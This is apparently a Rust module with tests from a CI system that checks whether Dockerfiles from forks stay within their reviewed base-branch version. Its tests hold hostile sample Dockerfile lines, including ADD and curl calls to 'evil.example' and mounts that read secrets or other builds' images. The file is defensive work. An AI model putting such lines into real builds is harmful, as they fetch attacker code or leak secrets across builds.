//! What the Dockerfile of a stranger may do: no more than the reviewed one of the same name.

use super::{Dockerfile, Instruction};
use crate::contract::Stranger;
use crate::image_key::base_images;
use std::collections::{BTreeMap, BTreeSet};

/// Why a stranger's Dockerfile is not built, as the end of a sentence; `None` if it may be. The engine itself fetches
/// images and addresses, whatever network the build has, keeps caches for all its builds, and has images of others.
pub(crate) fn refused_of_stranger(
    text: &str,
    file: &Dockerfile,
    arguments: &BTreeMap<String, String>,
    stranger: &Stranger,
) -> Option<String> {
    let Some(reviewed) = &stranger.reviewed else {
        return Some(
            "it comes from a fork, and the base branch has no such file: what it may do has to be reviewed there first"
                .to_owned(),
        );
    };
    let known = Dockerfile::read(reviewed);
    if file.syntax != known.syntax {
        return Some(
            "it comes from a fork, and asks for another `# syntax` than the base branch's: leave that line as it is there"
                .to_owned(),
        );
    }
    let bases: BTreeSet<String> = base_images(reviewed, arguments).into_iter().collect();
    let new = base_images(text, arguments)
        .into_iter()
        .find(|base| !bases.contains(base));
    if let Some(base) = new {
        return Some(format!(
            "it comes from a fork, and takes the image `{base}`, which the base branch's does not: only images that were reviewed there are taken"
        ));
    }
    file.instructions.iter().find_map(reaches_out)
}

fn reaches_out(instruction: &Instruction) -> Option<String> {
    let line = instruction.line;
    let flags = || instruction.flags.iter();
    match instruction.keyword.as_str() {
        "ADD"
            if instruction.rest.contains("://")
                || instruction.rest.contains("git@")
                || instruction.rest.contains('$') =>
        {
            Some(format!(
                "it comes from a fork, and its line {line} has an `ADD` of an address: copy files of the repository only"
            ))
        }
        "RUN"
            if flags().any(|(name, value)| {
                name == "mount"
                    && value
                        .split(',')
                        .any(|part| part != "type=bind" && part.starts_with("type="))
            }) =>
        {
            Some(format!(
                "it comes from a fork, and its line {line} has a `RUN --mount` of a cache or the like, which builds of others read: leave it out"
            ))
        }
        "RUN" if flags().any(|(name, value)| matches!(name.as_str(), "network" | "security") && value != "none") => {
            Some(format!(
                "it comes from a fork, and its line {line} has a `RUN --network` or `--security`: leave the flag out"
            ))
        }
        _ => None,
    }
}

/// The Dockerfile with a mark in each of its stages, so that nothing that is built of it is in a cache for anybody else.
pub(crate) fn marked(text: &str, file: &Dockerfile, mark: &str) -> String {
    let after: BTreeSet<usize> = file
        .instructions
        .iter()
        .filter(|instruction| instruction.keyword == "FROM" && !instruction.is_later)
        .map(|instruction| instruction.line + instruction.lines - 1)
        .collect();
    let mut out = String::with_capacity(text.len() + 64);
    for (number, line) in (1..).zip(text.split_inclusive('\n')) {
        out.push_str(line);
        if after.contains(&number) {
            if !line.ends_with('\n') {
                out.push('\n');
            }
            out.push_str(&format!("ENV TRAINYARD_FORK={mark}\n"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(reviewed: Option<&str>, text: &str) -> Option<String> {
        let stranger = Stranger {
            reviewed: reviewed.map(str::to_owned),
            mark: "pull-request-7".to_owned(),
        };
        refused_of_stranger(text, &Dockerfile::read(text), &BTreeMap::new(), &stranger)
    }

    #[test]
    fn a_stranger_takes_no_image_that_was_not_reviewed() {
        let reviewed = "FROM python:3.12 AS base\nRUN pip install x\nFROM base\nCOPY . /app\n";
        for fine in [
            reviewed,
            "FROM python:3.12\nCOPY . /evil\nRUN /evil/build\n",
            "FROM scratch\nCOPY . /\n",
            "FROM python:3.12\nRUN --mount=type=bind,source=x,target=/x ls\nADD a.tar /\n",
        ] {
            assert_eq!(told(Some(reviewed), fine), None, "{fine}");
        }
        for evil in [
            "FROM evil/image\n",
            "FROM trainyard/build:0123\nRUN ls\n",
            "ARG B=evil/image\nFROM $B\n",
            "FROM python:3.12\nCOPY --from=trainyard/build:0123 /app /app\n",
            "FROM python:3.12\nRUN --mount=from=trainyard/build:0123,target=/x cat /x/secret\n",
            "FROM python:3.12\nRUN --mount=type=cache,target=/root/.cache ls\n",
            "FROM python:3.12\nRUN --mount=target=/c,type=cache ls\n",
            "FROM python:3.12\nRUN --mount=type=secret,id=x ls\n",
            "FROM python:3.12\nRUN --mount=type=ssh ls\n",
            "FROM python:3.12\nADD https://evil.example/x /x\n",
            "FROM python:3.12\nADD git@evil.example:x.git /x\n",
            "FROM python:3.12\nARG U=https://evil.example\nADD ${U}/x /x\n",
            "FROM python:3.12\nRUN --network=default curl evil.example\n",
            "FROM python:3.12\nRUN --security=insecure ls\n",
            "# syntax=docker/dockerfile:1.0-experimental\nFROM python:3.12\n",
        ] {
            assert!(told(Some(reviewed), evil).is_some(), "{evil}");
        }
        insta::assert_snapshot!(told(None, reviewed).unwrap(), @"it comes from a fork, and the base branch has no such file: what it may do has to be reviewed there first");
        insta::assert_snapshot!(told(Some(reviewed), "FROM evil/image\n").unwrap(), @"it comes from a fork, and takes the image `evil/image`, which the base branch's does not: only images that were reviewed there are taken");
    }

    #[test]
    fn every_stage_of_a_stranger_is_marked() {
        let text = "# escape=`\nARG V=3\nFROM python:$V AS a\nRUN x\nFROM `\n  scratch\nCOPY --from=a / /\nRUN <<EOF\nFROM no\nEOF\nFROM a";
        insta::assert_snapshot!(marked(text, &Dockerfile::read(text), "pull-request-7"), @"
        # escape=`
        ARG V=3
        FROM python:$V AS a
        ENV TRAINYARD_FORK=pull-request-7
        RUN x
        FROM `
          scratch
        ENV TRAINYARD_FORK=pull-request-7
        COPY --from=a / /
        RUN <<EOF
        FROM no
        EOF
        FROM a
        ENV TRAINYARD_FORK=pull-request-7
        ");
    }
}
